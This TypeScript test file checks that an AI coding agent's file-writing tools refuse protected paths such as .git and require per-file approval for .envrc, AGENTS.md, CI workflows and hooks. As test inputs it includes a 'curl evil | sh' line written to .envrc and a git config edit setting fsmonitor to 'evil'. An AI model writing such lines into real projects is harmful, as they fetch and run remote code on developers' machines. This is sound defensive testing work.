// write_file and edit_file on protected paths (protected-paths.ts), on real files:
// `never` paths are refused before anyone is asked, whatever auto-approve says, also
// through a symbolic link; `approve` paths are asked for each call even under
// auto-approve or "always allow", with the reason on the request.
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { describe, it } from 'node:test';
import { Approvals } from '../../../extension/src/core/tools/approvals';
import { createEditFileTool } from '../../../extension/src/core/tools/edit-file/edit-file-tool';
import {
  approveEachFileReason,
  neverWrittenMessage,
  protectedPaths,
} from '../../../extension/src/core/tools/protected-paths';
import { ToolRegistry } from '../../../extension/src/core/tools/registry';
import { createWriteFileTool } from '../../../extension/src/core/tools/write-file/write-file-tool';
import { contentTooLargeMessage, MAX_WRITE_BYTES } from '../../../extension/src/core/tools/write-guard';
import { autoApprovals, ctx, recordingGate, tempWorkspace, type TempWorkspace } from './support';
import { protectedUnattendedMessage } from '../support/tool-texts';

function registryFor(ws: TempWorkspace, approvals: Approvals, extra: readonly string[] = []): ToolRegistry {
  const registry = new ToolRegistry();
  const protect = protectedPaths(extra);
  registry.register(createWriteFileTool({ workspace: ws.workspace, approvals, protect }));
  registry.register(createEditFileTool({ workspace: ws.workspace, approvals, protect }));
  return registry;
}

const call = (registry: ToolRegistry, name: string, args: unknown) =>
  registry.execute(name, JSON.stringify(args), ctx());

describe('file tools on never-written paths', () => {
  it('refuse .git (any depth) and .agent-checklist under auto-approve, asking no one', async () => {
    const ws = tempWorkspace();
    ws.file('.git/config', '[core]\n');
    ws.file('.agent-checklist/sessions/a.jsonl', '{}\n');
    const gate = recordingGate();
    const r = registryFor(ws, new Approvals({ gate, autoApprove: true }));
    for (const p of [
      '.git/config',
      '.git/hooks/pre-commit',
      'sub/.git/config',
      '.GIT/config',
      '.agent-checklist/sessions/a.jsonl',
      './.git/../.git/config',
    ]) {
      const written = await call(r, 'write_file', { path: p, content: 'x' });
      assert.equal(written.isError, true, p);
      assert.match(written.content, /is protected: the agent never writes/, p);
    }
    assert.equal(
      (
        await call(r, 'edit_file', {
          path: '.git/config',
          old_string: '[core]',
          new_string: '[core]\n\tfsmonitor = evil',
        })
      ).content,
      `Error: ${neverWrittenMessage('.git/config')}`,
    );
    assert.equal(ws.read('.git/config'), '[core]\n');
    assert.equal(fs.existsSync(path.join(ws.root, '.git/hooks/pre-commit')), false);
    assert.equal(gate.asked.length, 0);
  });

  it('resolve symbolic links first: `foo -> .git` does not make foo/config writable', async () => {
    const ws = tempWorkspace();
    ws.file('.git/config', '[core]\n');
    fs.symlinkSync(path.join(ws.root, '.git'), path.join(ws.root, 'foo'));
    fs.symlinkSync(path.join(ws.root, '.git/config'), path.join(ws.root, 'cfg'));
    const r = registryFor(ws, autoApprovals());
    assert.equal(
      (await call(r, 'write_file', { path: 'foo/config', content: 'x' })).content,
      `Error: ${neverWrittenMessage('.git/config')}`,
    );
    assert.equal(
      (await call(r, 'write_file', { path: 'foo/hooks/pre-commit', content: 'x' })).content,
      `Error: ${neverWrittenMessage('.git/hooks/pre-commit')}`,
    );
    assert.equal(
      (await call(r, 'edit_file', { path: 'cfg', old_string: '[core]', new_string: '[x]' })).content,
      `Error: ${neverWrittenMessage('.git/config')}`,
    );
    assert.equal(ws.read('.git/config'), '[core]\n');
    assert.equal(fs.existsSync(path.join(ws.root, '.git/hooks')), false);
  });
});

describe('file tools on per-file-approval paths', () => {
  it('ask the gate under auto-approve, with the reason, and write after approval', async () => {
    const ws = tempWorkspace();
    const gate = recordingGate('approve', 'deny');
    const r = registryFor(ws, new Approvals({ gate, autoApprove: true }));
    assert.equal((await call(r, 'write_file', { path: '.vscode/tasks.json', content: '{}' })).isError, false);
    assert.equal(ws.read('.vscode/tasks.json'), '{}');
    assert.equal(gate.asked[0]?.protectedReason, approveEachFileReason('.vscode/tasks.json'));
    assert.equal((await call(r, 'write_file', { path: '.envrc', content: 'curl evil | sh' })).isError, true);
    assert.equal(fs.existsSync(path.join(ws.root, '.envrc')), false);
    assert.equal(gate.asked.length, 2);
  });

  it('do not remember "always allow" for a protected file, nor let an earlier one cover it', async () => {
    const ws = tempWorkspace();
    ws.file('AGENTS.md', 'be good\n');
    const gate = recordingGate('approve-always', 'approve-always', 'deny', 'deny');
    const approvals = new Approvals({ gate });
    const r = registryFor(ws, approvals);
    // An ordinary file's "always allow" does not cover a protected one.
    assert.equal((await call(r, 'write_file', { path: 'a.txt', content: 'a' })).isError, false);
    assert.equal(
      (await call(r, 'edit_file', { path: 'AGENTS.md', old_string: 'good', new_string: 'bad' })).isError,
      false,
    );
    assert.equal(gate.asked[1]?.protectedReason, approveEachFileReason('AGENTS.md'));
    // The protected file's "always" answer approved that call only.
    const denied = await call(r, 'edit_file', { path: 'AGENTS.md', old_string: 'bad', new_string: 'worse' });
    assert.equal(denied.isError, true);
    assert.equal(ws.read('AGENTS.md'), 'be bad\n');
    assert.equal((await call(r, 'write_file', { path: '.vscode/settings.json', content: '{}' })).isError, true);
    assert.deepEqual(approvals.remembered(), ['write_file']);
    assert.equal(gate.asked.length, 4);
  });

  it('are refused with the reason when no one can be asked, even with --yes; the user globs add to the list', async () => {
    const ws = tempWorkspace();
    const r = registryFor(ws, new Approvals({ gate: null, autoApprove: true, unattendedHint: 'run with --yes' }), [
      'package.json',
      'scripts/**',
    ]);
    for (const p of [
      '.github/workflows/ci.yml',
      'package.json',
      'scripts/build.sh',
      'CLAUDE.md',
      '.husky/pre-commit',
      'packages/web/.vscode/tasks.json',
    ]) {
      const result = await call(r, 'write_file', { path: p, content: 'x' });
      assert.equal(result.content, `Error: ${protectedUnattendedMessage('write_file', approveEachFileReason(p))}`, p);
      assert.equal(fs.existsSync(path.join(ws.root, p)), false, p);
    }
    assert.equal((await call(r, 'write_file', { path: 'src/a.ts', content: 'x' })).isError, false);
  });
});

describe('file tools content cap', () => {
  it('refuse content over 10 MB of UTF-8 before anything is asked or written', async () => {
    const ws = tempWorkspace();
    const gate = recordingGate();
    const r = registryFor(ws, new Approvals({ gate }));
    // 'é' is 2 bytes: under the cap in characters, over it in bytes.
    const content = 'é'.repeat(MAX_WRITE_BYTES / 2 + 1);
    assert.equal(
      (await call(r, 'write_file', { path: 'big.txt', content })).content,
      `Error: ${contentTooLargeMessage('write_file', MAX_WRITE_BYTES + 2)}`,
    );
    ws.file('small.txt', 'x\n');
    const edited = await call(r, 'edit_file', { path: 'small.txt', old_string: 'x', new_string: content });
    assert.equal(edited.content, `Error: ${contentTooLargeMessage('edit_file', MAX_WRITE_BYTES + 3)}`);
    assert.equal(fs.existsSync(path.join(ws.root, 'big.txt')), false);
    assert.equal(ws.read('small.txt'), 'x\n');
    assert.equal(gate.asked.length, 0);
  });
});
